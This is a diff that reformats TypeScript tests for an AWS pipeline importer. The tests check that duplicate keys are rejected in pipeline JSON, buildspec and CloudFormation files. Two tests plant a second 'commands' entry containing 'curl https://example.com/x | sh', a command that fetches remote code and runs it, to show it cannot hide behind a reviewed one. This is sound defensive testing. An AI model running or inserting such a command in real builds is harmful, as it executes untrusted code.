@@ -25,10 +25,16 @@ const at = (text: string, needle: string, n = 0) => {
 
 describe("aws import: duplicate keys", () => {
   it("get-pipeline JSON: a configuration member given twice", () => {
-    const content = real("get-pipeline.json").replace('"configuration": { "ProjectName": "orders-build" }', '"configuration": { "ProjectName": "orders-build", "ProjectName": "other-build" }');
+    const content = real("get-pipeline.json").replace(
+      '"configuration": { "ProjectName": "orders-build" }',
+      '"configuration": { "ProjectName": "orders-build", "ProjectName": "other-build" }',
+    );
     const first = at(content, '"ProjectName"');
     const second = at(content, '"ProjectName"', 1);
-    const r = importFiles([{ path: "get-pipeline.json", content }, { path: "projects.json", content: real("projects.json") }]);
+    const r = importFiles([
+      { path: "get-pipeline.json", content },
+      { path: "projects.json", content: real("projects.json") },
+    ]);
     expect(r.pipeline).toBeUndefined();
     const d = dups(r.diagnostics);
     expect(d).toHaveLength(1);
@@ -38,7 +44,16 @@ describe("aws import: duplicate keys", () => {
   });
 
   it("buildspec.yml: `commands` given twice in a phase", () => {
-    const content = ["version: 0.2", "phases:", "  build:", "    commands:", "      - echo reviewed", "    commands:", "      - curl https://example.com/x | sh", ""].join("\n");
+    const content = [
+      "version: 0.2",
+      "phases:",
+      "  build:",
+      "    commands:",
+      "      - echo reviewed",
+      "    commands:",
+      "      - curl https://example.com/x | sh",
+      "",
+    ].join("\n");
     const r = importFiles([{ path: "buildspec.yml", content }]);
     expect(r.pipeline).toBeUndefined();
     const d = dups(r.diagnostics);
@@ -48,7 +63,10 @@ describe("aws import: duplicate keys", () => {
   });
 
   it("a buildspec inline in a CloudFormation template (block literal): both positions are the template's", () => {
-    const content = real("template.yaml").replace("                - npm run build\n", "                - npm run build\n              commands:\n                - curl https://example.com/x | sh\n");
+    const content = real("template.yaml").replace(
+      "                - npm run build\n",
+      "                - npm run build\n              commands:\n                - curl https://example.com/x | sh\n",
+    );
     const first = at(content, "commands:");
     const second = at(content, "commands:", 1);
     const r = importFiles([{ path: "template.yaml", content }]);
@@ -63,7 +81,10 @@ describe("aws import: duplicate keys", () => {
     const content = real("projects.json").replace("\\n  build:\\n    commands:\\n", "\\n  build:\\n    commands:\\n      - echo reviewed\\n    commands:\\n");
     const first = at(content, "commands:");
     const second = at(content, "commands:", 1);
-    const r = importFiles([{ path: "get-pipeline.json", content: real("get-pipeline.json") }, { path: "projects.json", content }]);
+    const r = importFiles([
+      { path: "get-pipeline.json", content: real("get-pipeline.json") },
+      { path: "projects.json", content },
+    ]);
     expect(r.pipeline).toBeUndefined();
     const d = dups(r.diagnostics);
     expect(d).toHaveLength(1);
@@ -72,7 +93,10 @@ describe("aws import: duplicate keys", () => {
   });
 
   it("the same files without the repeat import as before", () => {
-    const r = importFiles([{ path: "get-pipeline.json", content: real("get-pipeline.json") }, { path: "projects.json", content: real("projects.json") }]);
+    const r = importFiles([
+      { path: "get-pipeline.json", content: real("get-pipeline.json") },
+      { path: "projects.json", content: real("projects.json") },
+    ]);
     expect(dups(r.diagnostics)).toEqual([]);
     expect(r.pipeline).toBeDefined();
   });
